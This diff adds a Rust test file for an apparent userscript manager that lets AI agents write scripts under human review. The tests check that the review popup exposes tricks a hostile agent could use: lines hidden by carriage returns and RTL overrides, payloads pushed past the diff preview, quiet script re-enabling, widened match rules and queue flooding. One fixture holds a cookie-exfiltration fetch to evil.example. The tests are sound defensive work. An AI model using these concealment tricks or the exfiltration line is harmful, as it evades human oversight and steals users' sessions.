@@ -1,0 +1,366 @@
+//! What the user is shown while a write waits for review, tried as a hostile agent would: lines
+//! hidden from the diff, effects hidden behind "no change to the source", a payload past the
+//! preview, reviews that reorder, and one caller filling the queue for everyone.
+
+mod common;
+
+use common::*;
+use futures::executor::block_on;
+use futures::future::{join, join_all};
+use lumo_userscripts::control;
+use lumo_userscripts::env::memory::MemoryEnv;
+use lumo_userscripts::guard::review::{Decision, ReviewRequest, MAX_PENDING_PER_CALLER};
+use lumo_userscripts::ids::ExtensionId;
+use lumo_userscripts::provider::Provider;
+use lumo_userscripts::session::{Authorized, Session};
+use serde_json::{json, Value};
+use std::future::Future;
+use std::pin::Pin;
+use std::rc::Rc;
+use std::task::{Context, Poll};
+
+const OTHER: &str = "abcdefghijklmnopabcdefghijklmnop";
+
+/// Yields once to the executor, so the other joined side can make progress.
+struct YieldNow(bool);
+impl Future for YieldNow {
+    type Output = ();
+    fn poll(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<()> {
+        if self.0 {
+            Poll::Ready(())
+        } else {
+            self.0 = true;
+            cx.waker().wake_by_ref();
+            Poll::Pending
+        }
+    }
+}
+
+/// Waits (yielding) until `n` reviews wait; returns them as the popup gets them.
+async fn reviews_waiting(p: &Provider<MemoryEnv>, n: usize) -> Vec<ReviewRequest> {
+    for _ in 0..10_000 {
+        let r = p.pending_reviews();
+        if r.len() >= n {
+            return r;
+        }
+        YieldNow(false).await;
+    }
+    panic!(
+        "{n} reviews never waited (have {})",
+        p.pending_reviews().len()
+    );
+}
+
+fn tool_call(id: u64, name: &str, args: Value) -> Value {
+    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": name, "arguments": args}})
+}
+
+async fn result(p: &Provider<MemoryEnv>, s: &Session, msg: Value) -> Value {
+    reply(p.handle_mcp(s, &msg).await)["result"].clone()
+}
+
+/// Starts one write, lets `user` look at the review that waits and decide it; returns the
+/// write's result and what `user` returned.
+fn while_reviewed<T>(
+    p: &Provider<MemoryEnv>,
+    s: &Session,
+    name: &str,
+    args: Value,
+    user: impl AsyncFnOnce(ReviewRequest) -> (Decision, T),
+) -> (Value, T) {
+    let looked = async {
+        let r = reviews_waiting(p, 1).await.remove(0);
+        let id = r.id.clone();
+        let (d, t) = user(r).await;
+        assert!(p.decide(&id, d));
+        t
+    };
+    block_on(join(result(p, s, tool_call(9, name, args)), looked))
+}
+
+fn created(p: &Provider<MemoryEnv>, s: &Session, source: &str) -> Value {
+    let r = call(p, s, "write_script", json!({"source": source}));
+    assert_eq!(r["isError"], json!(false), "{r}");
+    r["structuredContent"]["script"].clone()
+}
+
+#[test]
+fn a_same_source_write_that_re_enables_a_disabled_script_says_so() {
+    let p = provider();
+    let s = ready(&p);
+    let src = script("Bank helper", "steal();");
+    let a = created(&p, &s, &src);
+    let r = block_on(control::handle(
+        &p,
+        &json!({"op": "scripts.setEnabled", "uuid": a["uuid"], "enabled": false}),
+    ));
+    assert_eq!(r.value["ok"], json!(true), "{}", r.value);
+    set_switch(&p, "review", true);
+    let (res, shown) = while_reviewed(
+        &p,
+        &s,
+        "write_script",
+        json!({"source": src, "uuid": a["uuid"], "revision": 2, "enabled": true}),
+        async |r| (Decision::Deny, r),
+    );
+    assert_eq!(error_code(&res), Some("USER_REJECTED"));
+    assert_eq!(shown.summary, "Enable the script \"Bank helper\"");
+    assert!(
+        shown
+            .effects
+            .iter()
+            .any(|e| e.starts_with("Re-enables the script")),
+        "{:?}",
+        shown.effects
+    );
+    assert!(shown
+        .effects
+        .contains(&"The code does not change".to_owned()));
+}
+
+#[test]
+fn a_widened_match_rule_is_said_in_words() {
+    let p = provider();
+    let s = ready(&p);
+    let a = created(&p, &s, &script("Helper", ""));
+    set_switch(&p, "review", true);
+    let wider = script("Helper", "").replace(
+        "// @match https://example.com/*\n",
+        "// @match https://example.com/*\n// @match *://*/*\n",
+    );
+    let (_, shown) = while_reviewed(
+        &p,
+        &s,
+        "patch_script",
+        json!({"uuid": a["uuid"], "revision": 1, "edits": [{"search": "// @match https://example.com/*\n", "replace": "// @match https://example.com/*\n// @match *://*/*\n"}]}),
+        async |r| (Decision::Deny, r),
+    );
+    assert!(wider.contains("*://*/*"));
+    assert_eq!(shown.summary, "Edit the script \"Helper\"");
+    assert!(
+        shown.effects.contains(
+            &"Now also runs on every page of any site (http or https) (@match *://*/*)".to_owned()
+        ),
+        "{:?}",
+        shown.effects
+    );
+}
+
+#[test]
+fn a_line_hidden_behind_a_carriage_return_shows_as_its_own_line() {
+    let p = provider();
+    let s = ready(&p);
+    set_switch(&p, "review", true);
+    let src = script(
+        "Quiet",
+        "// just a comment\rfetch('https://evil.example/?' + document.cookie)\u{202E}",
+    );
+    let (_, shown) = while_reviewed(&p, &s, "write_script", json!({"source": src}), async |r| {
+        (Decision::Deny, r)
+    });
+    let diff = shown.diff.expect("a diff");
+    let lines: Vec<&str> = diff.split('\n').collect();
+    assert!(lines.contains(&"+// just a comment⟨U+000D⟩"), "{lines:?}");
+    assert!(
+        lines.contains(&"+fetch('https://evil.example/?' + document.cookie)⟨U+202E⟩"),
+        "{lines:?}"
+    );
+    assert!(!diff.contains('\r') && !diff.contains('\u{202E}'));
+}
+
+#[test]
+fn a_payload_past_the_preview_is_announced_and_one_request_away() {
+    let p = provider();
+    let s = ready(&p);
+    set_switch(&p, "review", true);
+    let filler: String = (0..450).map(|i| format!("// line {i}\n")).collect();
+    let src = script("Long", &format!("{filler}exfiltrate();"));
+    let (_, (shown, full)) =
+        while_reviewed(&p, &s, "write_script", json!({"source": src}), async |r| {
+            let full = control::handle(&p, &json!({"op": "reviews.diff", "review": r.id}))
+                .await
+                .value;
+            (Decision::Deny, (r, full))
+        });
+    assert!(shown.diff_partial);
+    assert!(shown.diff_shown_lines < shown.diff_total_lines);
+    assert!(!shown.diff.unwrap().contains("exfiltrate"));
+    assert_eq!(full["ok"], json!(true), "{full}");
+    let text = full["diff"].as_str().unwrap();
+    assert!(text.contains("\n+exfiltrate();"));
+    assert_eq!(text.split('\n').count(), shown.diff_total_lines);
+    // Once decided, nothing is left to ask for.
+    let gone = block_on(control::handle(
+        &p,
+        &json!({"op": "reviews.diff", "review": shown.id}),
+    ));
+    assert_eq!(gone.value["ok"], json!(false));
+}
+
+fn session_for(p: &Provider<MemoryEnv>, id: &str) -> Rc<Session> {
+    let caller = ExtensionId::parse(id).unwrap();
+    let s = p.open_session(caller.clone());
+    let policy = block_on(p.policy());
+    assert_eq!(
+        s.authorize(policy.access(Some(&caller))),
+        Authorized::Flush(vec![])
+    );
+    initialize(p, &s, "2025-06-18");
+    s
+}
+
+#[test]
+fn reviews_are_listed_by_arrival_whatever_their_ids() {
+    let p = provider();
+    let s = ready(&p);
+    set_switch(&p, "review", true);
+    // Review ids are opaque (random in Chrome): make them cross a width change, so that sorted
+    // as text the later ones come first.
+    p.env.uuid_counter.set(0xFFFF_FFFF_FFFD);
+    let writes = (0..4u64).map(|i| {
+        let s = &s;
+        let p = &p;
+        async move {
+            // Arrive one after the other.
+            for _ in 0..i * 3 {
+                YieldNow(false).await;
+            }
+            result(
+                p,
+                s,
+                tool_call(
+                    100 + i,
+                    "write_script",
+                    json!({"source": script(&format!("W{i}"), "")}),
+                ),
+            )
+            .await
+        }
+    });
+    let user = async {
+        let seen = reviews_waiting(&p, 4).await;
+        for r in &seen {
+            assert!(p.decide(&r.id, Decision::Deny));
+        }
+        seen
+    };
+    let (_, seen) = block_on(join(join_all(writes), user));
+    let names: Vec<&str> = seen.iter().map(|r| r.summary.as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            "Create the script \"W0\"",
+            "Create the script \"W1\"",
+            "Create the script \"W2\"",
+            "Create the script \"W3\""
+        ]
+    );
+    assert!(seen.windows(2).all(|w| w[0].seq < w[1].seq));
+    let mut ids: Vec<&str> = seen.iter().map(|r| r.id.as_str()).collect();
+    ids.sort();
+    assert_ne!(
+        ids[0], seen[0].id,
+        "the ids do not sort in arrival order here"
+    );
+}
+
+#[test]
+fn one_caller_cannot_fill_the_review_queue_for_another() {
+    let p = provider();
+    let r = block_on(control::handle(
+        &p,
+        &json!({"op": "policy.add", "id": OTHER, "name": "Other"}),
+    ));
+    assert_eq!(r.value["ok"], json!(true));
+    let flooder = ready(&p);
+    let other = session_for(&p, OTHER);
+    set_switch(&p, "review", true);
+    // The flooder sends 16 writes (the old shared bound) and keeps them waiting.
+    let flood = (0..16u64).map(|i| {
+        let (p, s) = (&p, &flooder);
+        async move {
+            result(
+                p,
+                s,
+                tool_call(
+                    200 + i,
+                    "write_script",
+                    json!({"source": script(&format!("F{i}"), "")}),
+                ),
+            )
+            .await
+        }
+    });
+    let user = async {
+        let waiting = reviews_waiting(&p, MAX_PENDING_PER_CALLER).await;
+        for _ in 0..50 {
+            YieldNow(false).await;
+        }
+        // The other caller still gets its write in front of the user.
+        let mine = result(
+            &p,
+            &other,
+            tool_call(1, "write_script", json!({"source": script("Mine", "")})),
+        );
+        let look = async {
+            let all = reviews_waiting(&p, MAX_PENDING_PER_CALLER + 1).await;
+            let r = all.last().unwrap().clone();
+            assert_eq!(r.caller, OTHER);
+            assert!(p.decide(
+                &r.id,
+                Decision::Approve {
+                    allow_session: false
+                }
+            ));
+            for w in &waiting {
+                assert!(p.decide(&w.id, Decision::Deny));
+            }
+        };
+        join(mine, look).await.0
+    };
+    let (flood, mine) = block_on(join(join_all(flood), user));
+    assert_eq!(mine["isError"], json!(false), "{mine}");
+    let limited = flood
+        .iter()
+        .filter(|r| error_code(r) == Some("RATE_LIMITED"))
+        .count();
+    let denied = flood
+        .iter()
+        .filter(|r| error_code(r) == Some("USER_REJECTED"))
+        .count();
+    assert_eq!(denied, MAX_PENDING_PER_CALLER);
+    assert_eq!(limited, 16 - MAX_PENDING_PER_CALLER);
+    let text = flood
+        .iter()
+        .find(|r| error_code(r) == Some("RATE_LIMITED"))
+        .and_then(|r| r["content"][0]["text"].as_str())
+        .unwrap_or_default()
+        .to_owned();
+    assert!(text.contains("of your writes"), "{text}");
+}
+
+#[test]
+fn a_caller_name_cannot_reorder_the_review_it_asks_for() {
+    let p = Provider::new(MemoryEnv::new());
+    let r = block_on(control::handle(
+        &p,
+        &json!({"op": "policy.add", "id": HOST, "name": "Trusted\u{202E}tnega live"}),
+    ));
+    assert_eq!(r.value["ok"], json!(true));
+    let s = ready(&p);
+    set_switch(&p, "review", true);
+    let (_, shown) = while_reviewed(
+        &p,
+        &s,
+        "write_script",
+        json!({"source": script("A", "")}),
+        async |r| (Decision::Deny, r),
+    );
+    // Shown as a marker here; cleaning names at the source would do as well.
+    assert!(
+        !shown.caller_name.contains('\u{202E}'),
+        "{:?}",
+        shown.caller_name
+    );
+    assert!(shown.caller_name.starts_with("Trusted"));
+}
